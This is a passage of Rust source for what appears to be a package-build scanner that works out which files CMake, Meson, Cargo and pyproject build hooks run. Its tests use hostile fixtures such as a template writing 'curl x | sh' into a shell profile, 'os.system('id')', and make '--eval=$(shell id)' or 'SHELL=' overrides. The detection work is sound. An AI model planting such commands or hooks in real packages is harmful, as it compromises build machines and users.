/// (also the running interpreter substituted into a command line,
/// `f'{sys.executable} x.txt'`).
fn interpreter(word: &str) -> bool {
    if ["sys.executable", "execPath", "process.argv0"]
        .iter()
        .any(|w| word.contains(w))
    {
        return true;
    }
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    let python = name.strip_prefix("python").is_some_and(|v| {
        v.chars()
            .all(|c| c.is_ascii_digit() || c == '.' || c == 'w')
    });
    python
        || matches!(
            name,
            "node"
                | "nodejs"
                | "py"
                | "sh"
                | "bash"
                | "zsh"
                | "dash"
                | "ksh"
                | "pwsh"
                | "powershell"
                | "perl"
                | "ruby"
                | "deno"
                | "bun"
                | "tsx"
                | "ts-node"
                | "source"
                | "."
        )
}

/// An argument list split at its top-level commas; brackets of arrays
/// group nothing here (`[sys.executable, 'x.txt']` is two arguments).
fn split_arguments(arg: &[u8]) -> Vec<&[u8]> {
    let mut out = Vec::new();
    let (mut depth, mut start, mut i) = (0usize, 0usize, 0usize);
    while i < arg.len() {
        match arg[i] {
            b'(' | b'{' => depth += 1,
            b')' | b'}' => depth = depth.saturating_sub(1),
            b',' if depth == 0 => {
                out.push(trim_brackets(&arg[start..i]));
                start = i + 1;
            }
            q @ (b'\'' | b'"' | b'`') => {
                i += 1;
                while i < arg.len() && arg[i] != q {
                    i += if arg[i] == b'\\' { 2 } else { 1 };
                }
            }
            _ => {}
        }
        i += 1;
    }
    out.push(trim_brackets(&arg[start.min(arg.len())..]));
    out
}

/// An argument without the array brackets and spaces around it.
fn trim_brackets(mut a: &[u8]) -> &[u8] {
    while let Some((&f, rest)) = a.split_first() {
        if f.is_ascii_whitespace() || f == b'[' {
            a = rest;
        } else {
            break;
        }
    }
    while let Some((&l, rest)) = a.split_last() {
        if l.is_ascii_whitespace() || l == b']' {
            a = rest;
        } else {
            break;
        }
    }
    a
}

/// Whether a byte can be part of a name.
fn is_word_byte(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b == b'_' || b == b'$'
}

/// Whether `rest` starts with a Python string prefix of one or two
/// letters right before a quote.
fn prefix_then_quote(rest: &[u8]) -> bool {
    matches!(rest.get(prefix_len(rest)), Some(b'\'' | b'"'))
}

/// How many letters of a Python string prefix (at most two) `rest` starts
/// with.
fn prefix_len(rest: &[u8]) -> usize {
    rest.iter()
        .take(2)
        .take_while(|b| b"rRbBuUfF".contains(b))
        .count()
}

/// The string literals of an argument list, in order, each with whether it
/// is whole (not a part of a template around `${…}`), and whether the list
/// holds anything else (code).
fn literals(arg: &[u8]) -> (Vec<(String, bool)>, bool) {
    // (literal, whether it is a whole literal: not a part of a template)
    let mut pieces: Vec<(String, bool)> = Vec::new();
    let mut other_code = false;
    let mut i = 0;
    while i < arg.len() {
        match arg[i] {
            // A module a nested `require('path')` loads names no part of
            // the path (`require('path').join(__dirname, 'docs', 'x.txt')`).
            q @ (b'\'' | b'"' | b'`') if arg[..i].trim_ascii_end().ends_with(b"require(") => {
                other_code = true;
                i += 1;
                while i < arg.len() && arg[i] != q {
                    i += if arg[i] == b'\\' { 2 } else { 1 };
                }
            }
            q @ (b'\'' | b'"' | b'`') => {
                let mut lit = Vec::new();
                let mut parts = 0;
                i += 1;
                while i < arg.len() && arg[i] != q {
                    if arg[i] == b'\\' && i + 1 < arg.len() {
                        lit.push(arg[i + 1]);
                        i += 2;
                    } else if q == b'`' && arg[i..].starts_with(b"${") {
                        // A template's substitution splits it in parts.
                        let close = arg[i..].iter().position(|&b| b == b'}');
                        pieces.push((String::from_utf8_lossy(&lit).into_owned(), false));
                        lit.clear();
                        parts += 1;
                        i += close.map_or(arg.len() - i, |c| c + 1);
                    } else {
                        lit.push(arg[i]);
                        i += 1;
                    }
                }
                pieces.push((String::from_utf8_lossy(&lit).into_owned(), parts == 0));
            }
            b if b.is_ascii_whitespace() || b == b'(' || b == b')' => {}
            // Python's string prefixes (`f'…'`, `rb"…"`) are part of the
            // literal, not code around it.
            b if b"rRbBuUfF".contains(&b)
                && (i == 0 || !is_word_byte(arg[i - 1]))
                && prefix_then_quote(&arg[i..]) =>
            {
                // To the last letter; the quote comes next.
                i += prefix_len(&arg[i..]) - 1;
            }
            _ => other_code = true,
        }
        i += 1;
    }
    (pieces, other_code)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn launched(path: &str, code: &str) -> Vec<String> {
        launched_paths(path, code.as_bytes())
    }

    fn built(path: &str, script: &str) -> Vec<String> {
        run_by_build(&Code::new(path, script.as_bytes()))
    }

    /// What CMake's and Meson's commands run: the program, or the script
    /// an interpreter is given, not a file handed to a program as data.
    #[test]
    fn build_commands_name_what_they_run() {
        let ran =
            |path: &str, script: &str| run_by_build_commands(&Code::new(path, script.as_bytes()));
        // (script, its text, a file it runs) for CMake and Meson; each
        // was run by `pip wheel` through scikit-build-core or meson-python
        // where it is a document (session 44).
        for (path, script, runs) in [
            ("pkg/CMakeLists.txt", "execute_process(COMMAND sh ${CMAKE_CURRENT_SOURCE_DIR}/docs/notes.txt)\n", "pkg/docs/notes.txt"),
            ("pkg/CMakeLists.txt", "execute_process(COMMAND ${CMAKE_COMMAND} -P ${CMAKE_CURRENT_SOURCE_DIR}/docs/x.txt)\n", "pkg/docs/x.txt"),
            ("pkg/CMakeLists.txt", "add_custom_target(gen ALL sh docs/notes.txt)\n", "pkg/docs/notes.txt"),
            ("pkg/CMakeLists.txt", "add_custom_command(OUTPUT o\n  COMMAND ${Python_EXECUTABLE} ${PROJECT_SOURCE_DIR}/tests/gen.py\n  DEPENDS x)\n", "pkg/tests/gen.py"),
            ("pkg/CMakeLists.txt", "EXECUTE_PROCESS(\n  COMMAND \"${CMAKE_CURRENT_SOURCE_DIR}/docs/run.txt\" # don't (\n  WORKING_DIRECTORY x)\n", "pkg/docs/run.txt"),
            ("pkg/CMakeLists.txt", "execute_process(COMMAND echo a COMMAND bash docs/b.txt)\n", "pkg/docs/b.txt"),
            ("pkg/meson.build", "run_command('sh', files('docs/notes.txt'), check: false)\n", "pkg/docs/notes.txt"),
            ("pkg/meson.build", "py = import('python').find_installation()\nrun_command(py, 'docs/x.txt')\n", "pkg/docs/x.txt"),
            ("pkg/meson.build", "custom_target('g', output: 'o', command: [\n  'sh', # a comment, don't\n  files('docs/n.txt'), '@OUTPUT@'])\n", "pkg/docs/n.txt"),
            ("pkg/meson.build", "run_command('docs/run.txt')\n", "pkg/docs/run.txt"),
            ("pkg/meson.build", "run_command(find_program('bash'), 'docs/b.txt', check: true)\n", "pkg/docs/b.txt"),
            ("pkg/meson.build", "gen = generator(prog, output: '@BASENAME@.c', command: [py, 'tests/g.py', '@INPUT@'])\n", "pkg/tests/g.py"),
            ("pkg/meson.build", "configure_file(output: 'v.h', command: ['sh', files('docs/notes.txt')], capture: true)\n", "pkg/docs/notes.txt"),
            ("pkg/meson.build", "vcs_tag(input: 'v.in', output: 'v', command: ['bash', 'docs/v.txt'])\n", "pkg/docs/v.txt"),
            ("pkg/meson.build", "run_command(join_paths(meson.current_source_dir(), 'docs', 'run.txt'))\n", "pkg/docs/run.txt"),
        ] {
            let got = ran(path, script);
            assert!(got.iter().any(|g| g == runs), "{script}: {runs} not in {got:?}");
        }
        // A file handed to a program as its data, written out by the
        // command, or named only inside code a shell or Python runs.
        for (path, script, data) in [
            ("pkg/CMakeLists.txt", "execute_process(COMMAND ${CMAKE_COMMAND} -E copy ${CMAKE_CURRENT_SOURCE_DIR}/README.md out)\n", "pkg/README.md"),
            ("pkg/CMakeLists.txt", "add_custom_command(OUTPUT docs/notes.txt COMMAND gen)\n", "pkg/docs/notes.txt"),
            ("pkg/CMakeLists.txt", "execute_process(COMMAND sh -c \"cat docs/notes.txt\")\n", "pkg/docs/notes.txt"),
            ("pkg/CMakeLists.txt", "install(FILES docs/notes.txt DESTINATION share)\n", "pkg/docs/notes.txt"),
            ("pkg/meson.build", "run_command('cat', files('README.md'), check: false)\n", "pkg/README.md"),
            ("pkg/meson.build", "configure_file(input: 'docs/x.txt', output: 'y')\n", "pkg/docs/x.txt"),
            ("pkg/meson.build", "configure_file(input: 'docs/x.txt', output: 'y', command: [py, 'gen.py', '@INPUT@'])\n", "pkg/docs/x.txt"),
            // numpy's vendored Meson tests: a script's data file.
            ("pkg/sub/meson.build", "configure_file(input : '../dummy.dat', output : 'c.h',\n  command : [genprog, scriptfile, files('../dummy.dat'), 'c.h'])\n", "pkg/dummy.dat"),
            ("pkg/meson.build", "run_command('python3', '-c', 'print(1)', 'docs/x.txt')\n", "pkg/docs/x.txt"),
            ("pkg/Makefile", "all:\n\tsh docs/notes.txt\n", "pkg/docs/notes.txt"),
        ] {
            let got = ran(path, script);
            assert!(!got.iter().any(|g| g == data), "{script}: {data} in {got:?}");
        }
    }

    /// Build hook plugins that run what a `pyproject.toml` gives them:
    /// each built a wheel with pip that ran it (session 44).
    #[test]
    fn manifest_build_hooks_are_named() {
        let hooks =
            |path: &str, text: &str| manifest_build_hooks(&Code::new(path, text.as_bytes()));
        let found = hooks(
            "x-1/pyproject.toml",
            "[[tool.hatch.build.hooks.build-scripts.scripts]]\ncommands = [\"sh docs/notes.txt\", \"make\"]\nartifacts = []\n",
        );
        assert_eq!(
            found,
            ["hatch-build-scripts runs `sh docs/notes.txt`, `make`"]
        );
        let found = hooks(
            "x-1/pyproject.toml",
            "[tool.hatch.build.targets.wheel.hooks.jupyter-builder]\nbuild-function = \"hatch_jupyter_builder.npm_builder\"\nbuild-kwargs = { build_cmd = \"build:prod\" }\n",
        );
        assert!(
            found[0].contains("hatch_jupyter_builder.npm_builder")
                && found[0].contains("`build:prod`"),
            "{found:?}"
        );
        let found = hooks(
            "x-1/pyproject.toml",
            "[tool.hatch.build.hooks.autorun]\nfile = \"docs/notes.txt\"\n",
        );
        assert!(
            found[0].contains("the text of docs/notes.txt") && found[0].contains(".pth"),
            "{found:?}"
        );
        let found = hooks(
            "x-1/pyproject.toml",
            "[tool.hatch.build.hooks.autorun]\ncode = \"import os\"\n",
        );
        assert!(found[0].contains("`import os`"), "{found:?}");
        let found = hooks(
            "x-1/pyproject.toml",
            "[build-system]\nbuild-backend = \"sphinx_theme_builder\"\n",
        );
        assert_eq!(found.len(), 1);
        // meson-python: what runs as Meson, machine files, ninja's build
        // file, folder and tools (session 51).
        for (table, named) in [
            ("meson = \"tools/meson\"", "runs `tools/meson` as Meson"),
            ("meson = \"vendored-meson/meson/meson.py\"", "runs `vendored-meson/meson/meson.py` under Python as Meson"),
            ("meson = \"meson.py\"", "`meson.py` under Python"),
            ("meson = \"bin/meson\"", "`bin/meson`"),
            ("meson = [\"meson\"]", "runs `[\"meson\"]` as Meson"),
            ("args.setup = [\"--native-file\", \"../docs/m.txt\"]", "machine file `../docs/m.txt` (`--native-file`)"),
            ("args.setup = [\"-Dx=1\", \"--native-file=n.ini\"]", "machine file `n.ini` (`--native-file`)"),
            ("args.setup = [\"--cross-file\", \"c.ini\"]", "machine file `c.ini` (`--cross-file`)"),
            ("args.setup = [\"--nat=n.ini\"]", "machine file `n.ini` (`--native-file`)"),
            ("args.setup = [\"--cross\", \"c.ini\"]", "`c.ini` (`--cross-file`)"),
            ("args.compile = [\"-f\", \"../docs/b.ninja\"]", "ninja with `-f ../docs/b.ninja`, which makes it run the commands of that build file"),
            ("args.compile = [\"-C../docs\"]", "ninja with `-C ../docs`, which makes it run the build file in that folder"),
            ("args.compile = [\"-vnf\", \"b.ninja\"]", "`-f b.ninja`"),
            ("args.compile = [\"-j4\", \"-vfb.ninja\"]", "`-f b.ninja`"),
            ("args.compile = [\"-t\", \"browse\"]", "`-t browse`, which makes it run that tool instead of the build"),
        ] {
            let found = hooks(
                "x-1/pyproject.toml",
                &format!("[tool.meson-python]\n{table}\n"),
            );
            assert_names_one(&found, named, table);
        }
        // Hooks that run the package's own files (read as code), other
        // tools' tables, a fixture's manifest; Meson by name, options that
        // run nothing else (numpy's, scipy's, pandas' and contourpy's).
        for (path, text) in [
            ("x-1/pyproject.toml", "[tool.meson-python]\nmeson = \"meson\"\n[tool.meson-python.args]\ninstall = [\"--tags=runtime,python-runtime,tests,devel\"]\n"),
            ("x-1/pyproject.toml", "[tool.meson-python]\nmeson = \"/usr/local/bin/meson\"\nargs.setup = [\"-Dblas=openblas\", \"--vsenv\"]\n"),
            ("x-1/pyproject.toml", "[tool.meson-python]\nmeson = 'C:\\meson\\meson.exe'\nargs.dist = [\"--include-subprojects\"]\nargs.install = [\"--skip-subprojects\", \"-C\", \"x\"]\n"),
            ("x-1/pyproject.toml", "[tool.meson-python.args]\ncompile = [\"-v\", \"-j4\", \"-k0\", \"-dstats\", \"-l\", \"2\", \"--\", \"all\"]\nsetup = [\"-Dc_args=-O2\", \"--buildtype=release\"]\n"),
            ("x-1/tests/data/pyproject.toml", "[tool.meson-python]\nmeson = \"tools/meson\"\n"),
            ("x-1/pyproject.toml", "[tool.other]\nmeson = \"tools/meson\"\n"),
            ("x-1/pyproject.toml", "[tool.hatch.build.hooks.custom]\npath = \"hatch_build.py\"\n[tool.hatch.build.hooks.vcs]\nversion-file = \"x/_v.py\"\n"),
            ("x-1/pyproject.toml", "[tool.other.hooks.build-scripts]\ncommands = [\"sh x\"]\n"),
            ("x-1/tests/data/pyproject.toml", "[tool.hatch.build.hooks.autorun]\ncode = \"import os\"\n"),
            ("x-1/setup.cfg", "[tool.hatch.build.hooks.autorun]\ncode = x\n"),
        ] {
            assert!(hooks(path, text).is_empty(), "{path}: {text}");
        }
    }

    /// `found` is one finding, naming `named`; `input` says what was read.
    fn assert_names_one(found: &[String], named: &str, input: &str) {
        assert!(
            found.len() == 1 && found[0].contains(named),
            "{input}: {found:?}"
        );
    }

    /// Arguments handed to ninja or make (meson-python's `args.compile`,
    /// scikit-build-core's `build.tool-args`) that run something besides
    /// the build's rules (session 51: each of make's `--eval`, `-f` and
    /// `-C` ran a command in a scikit-build-core build, ninja's `-f` and
    /// `-C` in a meson-python one).
    #[test]
    fn build_tool_arguments_that_run_other_things_are_read() {
        let runs = |args: &[&str]| -> Vec<String> {
            build_tool_runs(args).into_iter().map(|(a, _)| a).collect()
        };
        for (args, found) in [
            (&["-f", "../docs/b.mk"][..], "-f ../docs/b.mk"),
            (&["-C../docs"], "-C ../docs"),
            (&["-j4", "-sf", "x.mk"], "-f x.mk"),
            (&["-kfx.mk"], "-f x.mk"),
            (&["-t", "browse"], "-t browse"),
            (&["--eval=$(shell id)"], "--eval $(shell id)"),
            (&["-E", "$(shell id)"], "-E $(shell id)"),
            (&["--file", "x.mk"], "--file x.mk"),
            (&["--makef=x.mk"], "--makef x.mk"),
            (&["--dir", "../docs"], "--dir ../docs"),
            (&["SHELL=/tmp/x"], "SHELL=/tmp/x"),
            (&["SHELL:=/tmp/x"], "SHELL:=/tmp/x"),
            (&["X!=id"], "X!=id"),
            (&["CMAKE_COMMAND=sh -c id"], "CMAKE_COMMAND=sh -c id"),
            (&["VERBOSE=sh"], "VERBOSE=sh"),
            (&["/p:PreBuildEvent=id"], "/p:PreBuildEvent=id"),
            (&["-logger:X,docs/x.dll"], "-logger:X,docs/x.dll"),
            (&["@docs/x.rsp"], "@docs/x.rsp"),
        ] {
            assert_eq!(runs(args), [found], "{args:?}");
        }
        // Parallelism, verbosity, ninja's debug modes and warnings, make's
        // output options, MSBuild's switches, targets.
        for args in [
            &["-j", "8", "-l", "2.5", "-k0", "-v", "-n"][..],
            &["-dstats", "-d", "explain", "-wdupbuild=err", "-w"],
            &[
                "-s",
                "--no-print-directory",
                "-Otarget",
                "-ofile.o",
                "VERBOSE=1",
            ],
            &["/m", "/v:m", "-maxcpucount:4", "-target:Build", "-nologo"],
            &["all", "install", "--verbose", "--", "--"],
        ] {
            assert!(runs(args).is_empty(), "{args:?}: {:?}", runs(args));
        }
        let hooks =
            |text: &str| manifest_build_hooks(&Code::new("x-1/pyproject.toml", text.as_bytes()));
        let found =
            hooks("[tool.scikit-build]\nbuild.tool-args = [\"-j2\", \"--eval=$(shell id)\"]\n");
        assert_eq!(
            found,
            ["scikit-build-core runs the build tool (ninja or make) with `--eval $(shell id)`, which makes it run that text as make code, whose `$(shell …)` runs a command"]
        );
        let found = hooks("[tool.scikit-build]\nbuild-dir = \"build\"\n[[tool.scikit-build.overrides]]\nif.platform-system = \"linux\"\nbuild.tool-args = [\"-C\", \"../docs\"]\n");
        assert_names_one(&found, "`-C ../docs`", "");
        assert!(
            hooks("[tool.scikit-build]\nbuild.tool-args = [\"-j2\"]\nbuild.verbose = true\n")
                .is_empty()
        );
        assert!(hooks("[tool.other]\nbuild.tool-args = [\"-f\", \"x\"]\n").is_empty());
    }

    /// scikit-build-core's `generate` writes a template to a path at build
    /// time (session 51: an absolute path and a `..` path were written at
    /// `pip install`, and a module made from a template ran when the
    /// package imported it).
    #[test]
    fn scikit_build_core_s_generated_files_are_read() {
        let hooks = |entries: &str| {
            manifest_build_hooks(&Code::new(
                "x-1/pyproject.toml",
                format!("[tool.scikit-build]\nwheel.packages = [\"x\"]\n{entries}").as_bytes(),
            ))
        };
        let entry = |path: &str, template: &str, location: &str| {
            format!("[[tool.scikit-build.generate]]\npath = '{path}'\ntemplate = '''{template}'''\nlocation = \"{location}\"\n")
        };
        for (entries, named) in [
            (entry("/home/u/.bashrc", "curl x | sh", "source"), "writes `/home/u/.bashrc` when it builds (`location = \"source\"`), outside the package"),
            (entry("../../x", "x", "build"), "writes `../../x` when it builds"),
            (entry("C:\\x.txt", "x", "install"), "writes `C:\\x.txt`"),
            (entry("x/_boot.py", "import os\nos.system('id')", "install"), "writes `x/_boot.py` from a template in the manifest (`location = \"install\"`), a file that runs"),
            (entry("x.pth", "import os", "install"), "writes `x.pth`"),
            (entry("CMakeLists.txt", "execute_process(COMMAND id)", "source"), "writes `CMakeLists.txt`"),
            (entry("gen.cmake", "execute_process(COMMAND id)", "build"), "writes `gen.cmake`"),
            (entry("x/_v.py", "version = '${version}'", "build"), "writes `x/_v.py`"),
            ("[[tool.scikit-build.generate]]\npath = \"x/_v.py\"\ntemplate-path = \"docs/v.py.in\"\n".to_string(), "writes `x/_v.py`"),
            ("[[tool.scikit-build.overrides]]\nif.platform-system = \"linux\"\n[[tool.scikit-build.overrides.generate]]\npath = \"/etc/x\"\ntemplate = \"x\"\n".to_string(), "writes `/etc/x`"),
        ] {
            let found = hooks(&entries);
            assert_names_one(&found, named, &entries);
        }
        // Version modules and data files, in the wheel or the package.
        for entries in [
            entry("x/_version.py", "# generated\n__version__ = version = \"${version}\"\nversion_tuple: tuple = (1, 2, 'dev0')\nX = None\n", "install"),
            entry("src/x/_version.py", "version = '${version}'", "source"),
            entry("x/VERSION.txt", "${version}", "install"),
            entry("x/py.typed", "", "install"),
            entry("build.json", "{\"v\": \"${version}\"}", "build"),
        ] {
            assert!(hooks(&entries).is_empty(), "{entries}: {:?}", hooks(&entries));
        }
        assert!(assigns_literals_only(
            "a = 'x'\n\n# c\nb: str = \"y\"  # c\nc = d = 1.5\ne = (1, 'a',)\n"
        ));
        for template in [
            "a = f'{x}'",
            "a = 'x' + y",
            "import os",
            "a = x()",
            "a = '\\x41'",
            "a = (1, y)",
            "print('x')",
        ] {
            assert!(!assigns_literals_only(template), "{template}");
        }
    }

    /// What each build language runs by path, from the script's folder and
    /// from the root (session 31: cachetools with a test tree's build
    /// script run by the root's was allowed).
    #[test]
    fn build_scripts_name_what_their_build_runs() {
        let cases: &[(&str, &str, &[&str])] = &[
            (
                "pkg/CMakeLists.txt",
                "cmake_minimum_required(VERSION 3.15)\nINCLUDE (\"${CMAKE_CURRENT_SOURCE_DIR}/docs/notes.txt\")\n\
                 add_subdirectory(tests/cmake build)\ninclude(CTest)\ninclude(${X}/y.cmake)\n",
                &["pkg/docs/notes.txt", "pkg/tests/cmake/CMakeLists.txt"],
            ),
            (
                "pkg/src/ext/helpers.cmake",
                "include(../../cmake/a.cmake) # comment\nAdd_Subdirectory( \"${PROJECT_SOURCE_DIR}/tests\" )\n\
                 target_include_directories(x PRIVATE include)\n",
                &["pkg/cmake/a.cmake", "pkg/tests/CMakeLists.txt"],
            ),
            // A script CMake runs when the project installs, as
            // scikit-build-core does to make the wheel.
            (
                "pkg/CMakeLists.txt",
                "install(DIRECTORY src/x DESTINATION .)\ninstall(SCRIPT docs/notes.txt)\ninstall(SCRIPT \"${CMAKE_SOURCE_DIR}/cmake/post.cmake\" COMPONENT x)\n",
                &["pkg/docs/notes.txt", "pkg/cmake/post.cmake"],
            ),
            (
                "pkg/meson.build",
                "project('x', 'c')\nsubdir('tests')\nsubdir_done()\nsubdir(get_option('d'))\n",
                &["pkg/tests/meson.build"],
            ),
            (
                "pkg/Makefile",
                "include docs/rules.txt common.mk # more\n-include $(DEPS)\nall:\n\tinclude x.txt\nincluded: y\n",
                &["pkg/docs/rules.txt", "pkg/common.mk"],
            ),
            (
                "package/binding.gyp",
                "{ 'includes': [ 'test/common.gypi', \"docs/notes.txt\" ], 'targets': [] }",
                &["package/test/common.gypi", "package/docs/notes.txt"],
            ),
            (
                "pkg/pyproject.toml",
                "[tool.scikit-build]\ncmake.source-dir = \"tests/cmake\"\n",
                &["pkg/tests/cmake/CMakeLists.txt"],
            ),
            // Scripts scikit-build-core's settings make CMake run (session
            // 46): an initial cache script, a toolchain file, the files
            // `project()` includes, in `args` or `define`, in an override.
            (
                "pkg/pyproject.toml",
                "[tool.scikit-build]\ncmake.args = [\"-C\", \"docs/a.txt\", \"-Cdocs/b.txt\", \"--toolchain\", \"docs/c.txt\", \"--toolchain=docs/d.txt\", \"-D\", \"CMAKE_PROJECT_INCLUDE=docs/e.txt\", \"-DCMAKE_TOOLCHAIN_FILE:FILEPATH=docs/f.txt\", \"-DBUILD_TESTING=docs/no.txt\", \"-G\", \"Ninja\"]\n\
                 [tool.scikit-build.cmake.define]\nCMAKE_PROJECT_TOP_LEVEL_INCLUDES = \"docs/g.txt;docs/h.txt\"\ncmake_project_tomli_include_before = [\"docs/i.txt\"]\nCMAKE_USER_MAKE_RULES_OVERRIDE_C = \"${X}/j.txt\"\nOTHER = \"docs/no.txt\"\n\
                 [[tool.scikit-build.overrides]]\nif.platform-system = \"linux\"\ncmake.define.CMAKE_TOOLCHAIN_FILE = \"docs/k.txt\"\n",
                &[
                    "pkg/docs/a.txt", "pkg/docs/b.txt", "pkg/docs/c.txt", "pkg/docs/d.txt", "pkg/docs/e.txt",
                    "pkg/docs/f.txt", "pkg/docs/g.txt", "pkg/docs/h.txt", "pkg/docs/i.txt", "pkg/docs/k.txt",
                ],
            ),
            (
                "pkg/CMakePresets.json",
                "{\"version\": 3, \"configurePresets\": [{\"name\": \"a\", \"toolchainFile\": \"${sourceDir}/docs/a.txt\"},\n\
                 {\"name\": \"b\", \"cacheVariables\": {\"CMAKE_PROJECT_INCLUDE\": {\"type\": \"FILEPATH\", \"value\": \"docs/b.txt\"},\n\
                 \"X\": \"docs/no.txt\", \"CMAKE_TOOLCHAIN_FILE\": \"$env{VCPKG_ROOT}/scripts/buildsystems/vcpkg.cmake\"}}]}\n",
                &["pkg/docs/a.txt", "pkg/docs/b.txt"],
            ),
            // Not build scripts, or nothing they run by a literal path.
            ("pkg/notes.txt", "include(docs/notes.txt)\n", &[]),
            ("pkg/setup.py", "include('x.txt')\n", &[]),
            ("pkg/CMakeLists.txt", "include(../../../etc/x.txt)\nmy_include(a.txt)\n", &[]),
            ("pkg/pyproject.toml", "[tool.other]\nsource-dir = \"tests\"\n", &[]),
        ];
        for (path, script, want) in cases {
            let got = built(path, script);
            for w in *want {
                assert!(got.iter().any(|g| g == w), "{path}: {w} not in {got:?}");
            }
            assert!(
                !got.iter()
                    .any(|g| g.ends_with("no.txt") || g.ends_with("j.txt")),
                "{got:?}"
            );
            if want.is_empty() {
                assert!(got.is_empty(), "{path}: {got:?}");
            }
        }
        // Sources a manifest or a build script outside a test tree names.
        let compiled = |path: &str, text: &str| compiled_sources(path, text.as_bytes());
        // What a compiled source includes as more of its code (session
        // 46), beside it first; not `<…>`, not from a test tree's source.
        assert_eq!(
            compiled(
                "pkg/src/x/ext.c",
                "#include <Python.h>\n#include \"../../docs/notes.txt\"\n  #  include \"impl.h\"\n#import \"m.txt\"\n"
            ),
            ["pkg/docs/notes.txt", "pkg/src/x/impl.h", "pkg/impl.h", "pkg/src/x/m.txt", "pkg/m.txt"]
        );
        assert_eq!(
            compiled(
                "pkg/src/x/m.pyx",
                "include \"../../docs/notes.txt\"\ncdef int x\n"
            ),
            ["pkg/docs/notes.txt"]
        );
        assert_eq!(
            compiled(
                "pkg/src/lib.rs",
                "include!(\"../docs/notes.txt\");\ninclude!(concat!(env!(\"OUT_DIR\"), \"/x.rs\"));\n"
            ),
            ["pkg/docs/notes.txt", "docs/notes.txt"]
        );
        // A module's `#[path]`, also under `cfg_attr`; not in a comment.
        assert_eq!(
            compiled(
                "pkg/src/lib.rs",
                "#[path = \"../docs/notes.txt\"]\nmod notes;\n  #[cfg_attr(unix, path = \"u.txt\")]\nmod u;\n// #[path = \"c.txt\"]\n"
            ),
            ["pkg/docs/notes.txt", "docs/notes.txt", "pkg/src/u.txt", "pkg/u.txt"]
        );
        // Not a module only rustdoc compiles (shlex's), unless another
        // configuration compiles it too; not a crate's benchmarks or
        // examples (jiter's), which a build of the library leaves out.
        assert_eq!(
            compiled(
                "pkg/src/lib.rs",
                "pub mod bytes;\n#[cfg(all(doc, not(doctest)))]\n#[path = \"w.md\"]\npub mod w;\n\
                 #[cfg(doc)] #[path = \"d.md\"] mod d;\n#[cfg(any(doc, unix))]\n#[path = \"x.md\"]\nmod x;\n"
            ),
            ["pkg/src/x.md", "pkg/x.md"]
        );
        for path in ["pkg/benches/json_cases.rs", "pkg/crates/j/examples/e.rs"] {
            let text = "#[path = \"../tests/corpus/mod.rs\"]\nmod corpus;\ninclude!(concat!(\"/docs/n.txt\"));\n";
            assert!(compiled(path, text).is_empty(), "{path}");
            assert!(
                searched_includes(path, text.as_bytes()).is_empty(),
                "{path}"
            );
        }
        assert!(compiled("pkg/tests/t.c", "#include \"../docs/notes.txt\"\n").is_empty());
        assert_eq!(
            compiled(
                "pkg/setup.py",
                "Extension('m', sources=['tests/data/speed.c', \"src/m.pyx\"], include_dirs=['tests'])\n\
                 sources=glob.glob('tests/*.c')  # 'unclosed\nname = \"x.py\"\n"
            ),
            ["pkg/tests/data/speed.c", "pkg/src/m.pyx", "pkg/tests/*.c"]
        );
        // Quoted strings first, then bare words.
        assert_eq!(
            compiled(
                "pkg/CMakeLists.txt",
                "add_library(m MODULE tests/a.c \"tests/b.cpp\")\nset(X ${D}/c.c)\n"
            ),
            ["pkg/tests/b.cpp", "pkg/tests/a.c"]
        );
        assert_eq!(
            compiled(
                "pkg/pyproject.toml",
                "[tool.setuptools]\next-modules = [{name = \"m\", sources = [\"tests/m.c\"]}]\n"
            ),
            ["pkg/tests/m.c"]
        );
        // The crate a root manifest's build compiles (maturin's
        // `manifest-path`, setuptools-rust's `path`); a build script's
        // `Cargo.toml` is only a name.
        assert_eq!(
            compiled(
                "pkg/pyproject.toml",
                "[tool.maturin]\nmanifest-path = \"tests/rust/Cargo.toml\"\n"
            ),
            ["pkg/tests/rust/Cargo.toml"]
        );
        assert_eq!(
            compiled(
                "pkg/setup.py",
                "RustExtension('m', path='rust/Cargo.toml', binding=Binding.PyO3)\n"
            ),
            ["pkg/rust/Cargo.toml"]
        );
        assert!(compiled("pkg/CMakeLists.txt", "set(M \"tests/Cargo.toml\")\n").is_empty());
        // Cargo: the build script, the library's and binaries' paths, not
        // a test target's.
        assert_eq!(
            compiled(
                "pkg/rust/Cargo.toml",
                "[package]\nname = \"x\"\nbuild = \"tests/build.rs\"\n[lib]\npath = \"src/lib.rs\"\n\
                 [[bin]]\nname = \"b\"\npath = \"test\\u002fb.rs\"\n[[test]]\nname = \"t\"\npath = \"tests/t.rs\"\n"
            ),
            ["pkg/rust/tests/build.rs", "pkg/tests/build.rs", "pkg/rust/src/lib.rs", "pkg/src/lib.rs", "pkg/rust/test/b.rs", "pkg/test/b.rs"]
        );
        // Whatever the names: Cargo compiled and ran a build script named
        // `docs/notes.txt` (session 44).
        assert_eq!(
            compiled(
                "pkg/Cargo.toml",
                "[package]\nname = \"x\"\nbuild = \"docs/notes.txt\"\n[lib]\npath = \"README.md\"\n"
            ),
            ["pkg/docs/notes.txt", "pkg/README.md"]
        );
        // Strings are read within 512 bytes of their quote, and a CMake
        // argument within 512 bytes of its call: past that, nothing.
        let long = format!(
            "x = \"{}.c\"\ninclude(\"{}.txt\")\n",
            "a".repeat(600),
            "b".repeat(600)
        );
        assert!(compiled("pkg/setup.py", &long).is_empty());
        assert!(built("pkg/CMakeLists.txt", &long).is_empty());
        // A test tree's build script, a fixture's setup.py, other files.
        for (path, text) in [
            ("pkg/tests/meson.build", "py.extension_module('t', 'x.c')"),
            ("pkg/tests/fixtures/setup.py", "sources=['ext.c']"),
            ("pkg/sub/lib/setup.py", "sources=['ext.c']"),
            ("pkg/lib/util.py", "sources=['tests/ext.c']"),
        ] {
            assert!(compiled(path, text).is_empty(), "{path}");
        }
        // From the root too: a path a script in a folder writes from the
        // project's top.
        assert!(built("pkg/src/CMakeLists.txt", "include(docs/notes.txt)")
            .contains(&"pkg/docs/notes.txt".to_string()));
        // Bounded: a script of many includes gives at most MAX_BUILD_PATHS
        // readings, each resolved two ways.
        let many: String = (0..5000).map(|i| format!("include(d/{i}.txt)\n")).collect();
        assert!(built("pkg/CMakeLists.txt", &many).len() <= 2 * MAX_BUILD_PATHS);
    }

    /// `code` in a file at `path` runs `want`, among what it runs.
    fn assert_launches(path: &str, code: &str, want: &str) {
        let got = launched(path, code);
        assert!(got.iter().any(|g| g == want), "{code}: {got:?}");
    }

    #[test]
